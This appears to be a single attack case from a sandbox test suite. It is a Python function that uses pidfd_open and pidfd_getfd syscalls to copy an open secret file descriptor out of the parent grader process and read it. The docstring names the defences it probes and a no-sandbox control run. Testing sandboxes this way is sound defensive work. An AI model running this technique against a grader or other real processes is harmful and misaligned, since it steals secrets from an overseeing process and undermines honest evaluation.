"""Kind: reading other processes.
Wins if pidfd_getfd copies an open file of the grader.
Defence: own uid, seccomp, no debugging.
Control: wins without the sandbox.
"""

import ctypes
import os


def attack(target):
    libc = ctypes.CDLL(None, use_errno=True)
    process = libc.syscall(target["nr"]["pidfd_open"], target["parent"], 0)
    if process < 0:
        return None
    stolen = libc.syscall(target["nr"]["pidfd_getfd"], process, target["secret_descriptor"], 0)
    return os.pread(stolen, 200, 0).decode()
